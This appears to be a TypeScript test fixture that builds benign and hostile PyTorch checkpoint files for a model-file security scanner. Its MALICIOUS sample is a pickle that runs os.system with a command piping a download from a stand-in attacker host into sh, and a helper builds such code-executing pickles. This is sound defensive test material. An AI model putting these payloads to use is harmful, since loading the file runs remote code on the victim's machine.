// Model files as pull requests bring them, from the smallest pickles that mean what real ones mean.
import { crc32 } from 'node:zlib';
import { assemble } from '../support/pickle-assembler.ts';

/** Calls `module.name(argument)` when loaded. */
export function calling(module: string, name: string, argument: string): Uint8Array {
  return assemble([
    'PROTO 2',
    `GLOBAL ${module} ${name}`,
    `BINUNICODE ${JSON.stringify(argument)}`,
    'TUPLE1',
    'REDUCE',
    'STOP',
  ]);
}

/** `torch.save({'weight': tensor}, path)`: an OrderedDict with one tensor rebuilt from a storage. */
const STATE_DICT = assemble([
  'PROTO 2',
  'GLOBAL collections OrderedDict',
  'EMPTY_TUPLE',
  'REDUCE',
  'BINUNICODE weight',
  'GLOBAL torch._utils _rebuild_tensor_v2',
  'MARK',
  'MARK',
  'BINUNICODE storage',
  'GLOBAL torch FloatStorage',
  'BINUNICODE "0"',
  'BINUNICODE cpu',
  'BININT1 2',
  'TUPLE',
  'BINPERSID',
  'BININT1 0',
  'BININT1 2',
  'TUPLE1',
  'BININT1 1',
  'TUPLE1',
  'NEWFALSE',
  'GLOBAL collections OrderedDict',
  'EMPTY_TUPLE',
  'REDUCE',
  'TUPLE',
  'REDUCE',
  'SETITEM',
  'STOP',
]);

/** A checkpoint as torch.save writes it since 1.6: an uncompressed zip with these members. */
export function checkpoint(pickle: Uint8Array): Uint8Array {
  return storedZip({
    'archive/data.pkl': pickle,
    'archive/byteorder': Buffer.from('little'),
    'archive/data/0': new Uint8Array(8),
    'archive/version': Buffer.from('3\n'),
  });
}

export const BENIGN = checkpoint(STATE_DICT);
/** Runs a shell: CRITICAL. */
export const MALICIOUS = checkpoint(calling('os', 'system', 'curl https://evil.example/x | sh'));
/** Calls into a package that nobody vouches for: MEDIUM. */
export const UNKNOWN = checkpoint(calling('ourpackage.models', 'Net', 'small'));

function storedZip(members: Readonly<Record<string, Uint8Array>>): Uint8Array {
  const files: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const [name, data] of Object.entries(members)) {
    const common = commonHeader(name, data);
    const file = Buffer.concat([Buffer.from('PK\u0003\u0004'), common, Buffer.from(name), data]);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(offset, 10);
    directory.push(Buffer.from('PK\u0001\u0002'), Buffer.from([20, 0]), common, tail, Buffer.from(name));
    files.push(file);
    offset += file.length;
  }
  const central = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 'latin1');
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...files, central, end]);
}

/** The 26 bytes that a local header and a central entry share: version to extra length. APPNOTE.TXT 4.3.7. */
function commonHeader(name: string, data: Uint8Array): Buffer {
  const header = Buffer.alloc(26);
  header.writeUInt16LE(20, 0);
  // 1980-01-01, as torch writes it.
  header.writeUInt16LE(0x21, 8);
  header.writeUInt32LE(crc32(data), 10);
  header.writeUInt32LE(data.length, 14);
  header.writeUInt32LE(data.length, 18);
  header.writeUInt16LE(Buffer.byteLength(name), 22);
  return header;
}
